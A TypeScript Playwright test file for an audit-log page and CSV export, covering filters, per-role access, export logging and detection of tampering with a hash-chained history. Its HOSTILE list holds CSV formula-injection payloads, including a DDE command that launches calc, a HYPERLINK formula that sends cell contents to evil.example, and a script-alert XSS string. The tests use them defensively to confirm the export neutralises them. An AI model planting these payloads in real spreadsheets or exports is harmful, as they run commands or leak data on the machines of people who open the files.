import { randomUUID } from 'node:crypto';
import { addCustomer } from '../support/add-mailbox';
import { expect, type Page, test } from '../support/browser-test';
import { uniqueName } from '../support/console';
import { parseCsv } from '../support/parse-csv';
import { sql } from '../support/run-database';
import { addStaff, NOBODY, signInAs } from '../support/staff';

/** Who did what: found by every filter, taken away as a file that runs nothing, and shown to whom it concerns. */
const name = uniqueName('Elm Street Library');
const otherName = uniqueName('Elder Care');
let page: Page;
let customerId: string;
let otherId: string;

test.beforeAll(async ({ browser }) => {
  page = await browser.newPage();
  customerId = await addCustomer(page, name);
  otherId = await addCustomer(page, otherName);
});
test.afterAll(async () => page.context().close());

interface Laid {
  readonly customer?: string;
  readonly customerName?: string;
  readonly actorId?: string;
  readonly actor?: string;
  readonly deed?: string;
  readonly subject: string;
  readonly details?: Record<string, string>;
  readonly at?: string;
}

async function lay(entry: Laid): Promise<void> {
  await sql(
    `insert into audit_entry (at, deed, actor_id, actor_name, customer_id, customer_name, subject, details)
     values (coalesce($1, now()), $2, $3, $4, $5, $6, $7, $8)`,
    [
      entry.at ?? null,
      entry.deed ?? 'mailbox.change',
      entry.actorId ?? null,
      entry.actor ?? 'Posthouse',
      entry.customer ?? customerId,
      entry.customerName ?? name,
      entry.subject,
      JSON.stringify(entry.details ?? {}),
    ],
  );
}

/** The rows of an export as the asker of `as` gets it. */
async function exported(parameters: string, as: Page = page): Promise<string[][]> {
  const answer = await as.request.get(`/history/export${parameters}`);
  expect(answer.status()).toBe(200);
  return parseCsv((await answer.text()).replace(/^\u{feff}/u, ''));
}

const subjectsOf = (rows: string[][]) => rows.slice(1).map((row) => row[4]);

test.describe('the file', () => {
  const HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' =1+1',
    '"=1+1',
    '",=1+1,"',
    '";=1+1;"',
    "'=1+1",
    '"\r\n"=1+1"',
    '<script>alert(1)</script>',
    '{=1+1}',
  ];

  test('runs nothing in a spreadsheet, whatever people have typed, and loses none of it', async () => {
    for (const text of HOSTILE)
      await lay({ subject: text, actor: text, customerName: text, details: { recipient: text } });
    const answer = await page.request.get(`/history/export?customer=${customerId}&deed=mailbox.change`);
    const headers = answer.headers();
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(headers['cache-control']).toContain('no-store');
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="posthouse-history-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const bytes = await answer.body();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows[0]).toEqual([
      'Time (UTC)',
      'Staff member',
      'What happened',
      'Customer',
      'Subject',
      'Subject ID',
      'Deed',
      'Details',
      'Entry',
      'Number in its chain',
      'Hash (SHA-256)',
    ]);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const [at, text] of [...HOSTILE].reverse().entries()) {
      const row = rows[at + 1] ?? [];
      for (const cell of [row[1], row[3], row[4]]) expect([text, `'${text}`]).toContain(cell);
      expect(row[2]).toContain(text);
      expect(JSON.parse(row[7] ?? '')).toEqual({ recipient: text });
    }
    for (const cell of rows.flat()) {
      expect(cell.normalize('NFKC')).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@])/);
    }
  });

  test('says in each row where the entry stands in its chain', async () => {
    const rows = await exported(`?customer=${customerId}`);
    const stored = await sql<{ id: string; sequence: string; hash: string }>(
      "select id, sequence, encode(hash, 'hex') as hash from audit_entry where customer_id = $1 order by id desc",
      [customerId],
    );
    // What was put on record for this export itself is not in it.
    expect(rows.slice(1).map((row) => row.slice(8))).toEqual(
      stored.slice(1).map(({ id, sequence, hash }) => [id, sequence, hash]),
    );
  });

  test('has everything also when it is long, newest first', async () => {
    const customer = randomUUID();
    await sql(
      `insert into audit_entry (deed, actor_name, customer_id, customer_name, subject)
       select 'mailbox.change', 'Lin', $1, 'Long', 'entry ' || n from generate_series(1, 1203) as n`,
      [customer],
    );
    const subjects = subjectsOf(await exported('?q=entry%20')).filter((text) =>
      /^entry \d+$/.test(text ?? ''),
    );
    expect(subjects).toEqual(Array.from({ length: 1203 }, (_, at) => `entry ${1203 - at}`));
  });

  test('is headed in the language of whoever takes it', async ({ browser }) => {
    const context = await browser.newContext({ storageState: await page.context().storageState() });
    await context.addCookies([
      { name: 'language', value: 'zh-Hant', url: process.env.POSTHOUSE_TEST_URL ?? '' },
    ]);
    const theirs = await context.newPage();
    const [head] = await exported(`?customer=${customerId}`, theirs);
    expect(head?.slice(0, 4)).toEqual(['時間 (UTC)', '人員', '事件', '客戶']);
    await context.close();
  });
});

test.describe('the filters', () => {
  const mei = { id: randomUUID(), name: uniqueName('Mei Filtered') };

  test.beforeAll(async () => {
    const theirs = { actorId: mei.id, actor: mei.name };
    await lay({ ...theirs, subject: 'one@elm.example', deed: 'mailbox.pause', at: '2026-03-01T12:00:00Z' });
    await lay({ ...theirs, subject: 'two@elm.example', deed: 'mailbox.resume', at: '2026-03-02T12:00:00Z' });
    await lay({ ...theirs, subject: '100%@elm.example', deed: 'mailbox.pause', at: '2026-03-03T12:00:00Z' });
    await lay({ ...theirs, subject: 'other@elm.example', customer: otherId, customerName: otherName });
  });

  test('narrow the list by what stands in the address, and survive a reload', async () => {
    await page.goto('/history');
    await page.getByLabel('Filter by customer').selectOption(customerId);
    await page.getByLabel('Staff member').selectOption({ label: mei.name });
    await page.getByLabel('What happened').selectOption('mailbox');
    await page.getByLabel('From day').fill('2026-03-01');
    await page.getByLabel('To day').fill('2026-03-02');
    await page.getByLabel('Text in the subject').fill('@ELM');
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.waitForURL(/from=2026-03-01/);
    const check = async () => {
      await expect(page.getByText('1–2 of 2 entries')).toBeVisible();
      await expect(page.getByText('resumed the mailbox two@elm.example')).toBeVisible();
      await expect(page.getByLabel('Filter by customer')).toHaveValue(customerId);
      await expect(page.getByLabel('Staff member')).toHaveValue(mei.id);
      await expect(page.getByLabel('What happened')).toHaveValue('mailbox');
      await expect(page.getByLabel('From day')).toHaveValue('2026-03-01');
      await expect(page.getByLabel('To day')).toHaveValue('2026-03-02');
      await expect(page.getByLabel('Text in the subject')).toHaveValue('@ELM');
    };
    await check();
    await page.reload();
    await check();
    const href = await page.getByRole('link', { name: 'Export CSV' }).getAttribute('href');
    const rows = await exported(`?${href?.split('?')[1]}`);
    expect(subjectsOf(rows)).toEqual(['two@elm.example', 'one@elm.example']);
    await page.getByRole('link', { name: 'Clear' }).click();
    await expect(page.getByLabel('Staff member')).toHaveValue('');
    expect(new URL(page.url()).search).toBe('');
  });

  const of = (more: string) => `?actor=${mei.id}${more}`;
  const EACH: [string, string[]][] = [
    ['', ['other@elm.example', '100%@elm.example', 'two@elm.example', 'one@elm.example']],
    ['&deed=mailbox.pause', ['100%@elm.example', 'one@elm.example']],
    ['&deed=secret', []],
    ['&from=2026-03-02&to=2026-03-02', ['two@elm.example']],
    ['&to=2026-03-01', ['one@elm.example']],
    ['&q=100%25', ['100%@elm.example']],
    ['&q=%25%25', []],
  ];
  for (const [more, subjects] of EACH) {
    test(`find the same on the page and in the file: ${more || 'one person'}`, async () => {
      expect(subjectsOf(await exported(of(more)))).toEqual(subjects);
      await page.goto(`/history${of(more)}`);
      for (const subject of subjects) await expect(page.getByText(subject).first()).toBeVisible();
      if (subjects.length === 0) await expect(page.getByText('No entry matches')).toBeVisible();
    });
  }

  test('say when a day is none, and lose nothing of the rest', async ({ allowConsole }) => {
    allowConsole(/400/);
    await page.goto(`/history${of('')}`);
    await page.getByLabel('From day').pressSequentially('12');
    await page.getByRole('button', { name: 'Apply' }).click();
    await expect(page.getByText('This is no whole day.')).toBeVisible();
    await expect(page.getByLabel('Staff member')).toHaveValue(mei.id);
    await page.goto(`/history${of('&from=2026-03-03&to=2026-03-01')}`);
    await expect(page.getByText('The last day lies before the first.')).toBeVisible();
    const answer = await page.request.get(`/history/export${of('&from=2026-02-31')}`);
    expect(answer.status()).toBe(400);
  });
});

test.describe('who is not an admin', () => {
  let agent: Page;
  let viewer: Page;

  test.beforeAll(async ({ browser }) => {
    agent = await signInAs(browser, await addStaff('agent', 'Ona Limited', [customerId]));
    viewer = await signInAs(browser, await addStaff('viewer', 'Vio Limited', [customerId]));
    await lay({ subject: 'theirs@elder.example', customer: otherId, customerName: otherName });
    await lay({ subject: 'ours@elm.example' });
  });
  test.afterAll(async () => {
    await agent.context().close();
    await viewer.context().close();
  });

  test('sees the entries of their customers, and nothing of others or of the installation', async () => {
    for (const who of [agent, viewer]) {
      await who.goto('/history');
      await expect(who.getByText('ours@elm.example')).toBeVisible();
      await expect(who.getByText('theirs@elder.example')).toHaveCount(0);
      await expect(who.getByText(/signed in/)).toHaveCount(0);
      await expect(who.getByRole('button', { name: 'Verify' })).toHaveCount(0);
      await who.goto(`/history?customer=${otherId}&q=theirs`);
      await expect(who.getByText('No entry matches')).toBeVisible();
    }
  });

  test('an agent takes away the same and no more', async () => {
    const rows = await exported('', agent);
    expect(rows.length).toBeGreaterThan(10);
    const [stored] = await sql<{ count: string }>('select count(*) from audit_entry where customer_id = $1', [
      customerId,
    ]);
    expect(rows).toHaveLength(Number(stored?.count) + 1);
    expect(subjectsOf(rows)).not.toContain('theirs@elder.example');
    // Not everything instead of nothing.
    for (const id of [otherId, randomUUID(), 'abc']) {
      const answer = await agent.request.get(`/history/export?customer=${id}`);
      expect(answer.status()).toBe(404);
      expect(await answer.text()).not.toContain('theirs@elder.example');
    }
  });

  test('a viewer finds no way to take it away, and neither does somebody who is not signed in', async ({
    browser,
  }) => {
    await viewer.goto('/history');
    await expect(viewer.getByRole('link', { name: 'Export CSV' })).toHaveCount(0);
    const refused = await viewer.request.get('/history/export');
    expect(refused.status()).toBe(403);
    expect(await refused.text()).toContain('Your role does not allow this');
    const nobody = await browser.newContext({ storageState: NOBODY });
    const signedOut = await nobody.request.get('/history/export');
    expect(signedOut.status()).toBe(401);
    expect(await signedOut.text()).not.toContain('@elm.example');
    await nobody.close();
  });

  test('that somebody took it away is itself on record, in the history of that customer', async () => {
    await exported(`?customer=${customerId}&q=ours`, agent);
    await page.goto(`/history?customer=${customerId}`);
    const sentence = page.getByText(/Ona Limited exported the history, 1 entry, as posthouse-history-/);
    await expect(sentence.first()).toBeVisible();
    const [entry] = await sql<{ details: unknown }>(
      "select details from audit_entry where deed = 'history.export' and customer_id = $1 order by id desc limit 1",
      [customerId],
    );
    expect(entry?.details).toEqual({ entries: 1, customer: customerId, q: 'ours' });
  });
});

test('the button of the page starts a download and records it once', async () => {
  const count = async () =>
    Number((await sql("select count(*) from audit_entry where deed = 'history.export'"))[0]?.count);
  await page.goto(`/history?customer=${customerId}`);
  // Whatever a browser fetches in advance is no export.
  await page.waitForTimeout(500);
  const before = await count();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export CSV' }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^posthouse-history-\d{4}-\d\d-\d\d\.csv$/);
  expect(await download.failure()).toBeNull();
  expect(await count()).toBe(before + 1);
});

test('an admin is told that the history is whole, and what is not', async () => {
  await page.goto('/history');
  await page.getByRole('button', { name: 'Verify' }).click();
  await expect(page.getByText('The history is whole')).toBeVisible();
  const [entry] = await sql<{ id: string; sequence: string }>(
    'select id, sequence from audit_entry where customer_id = $1 order by id limit 1',
    [customerId],
  );
  const tamper = (change: string) =>
    sql(`alter table audit_entry disable trigger audit_entry_append_only;
      update audit_entry set subject = ${change} where id = ${entry?.id};
      alter table audit_entry enable always trigger audit_entry_append_only`);
  await tamper("subject || '.'");
  try {
    await page.getByRole('button', { name: 'Verify' }).click();
    await expect(page.getByText('The history was changed')).toBeVisible();
    await expect(page.getByText(`${name}: entry ${entry?.sequence} is not what was written`)).toBeVisible();
  } finally {
    await tamper('left(subject, -1)');
  }
  await page.getByRole('button', { name: 'Verify' }).click();
  await expect(page.getByText('The history is whole')).toBeVisible();
});
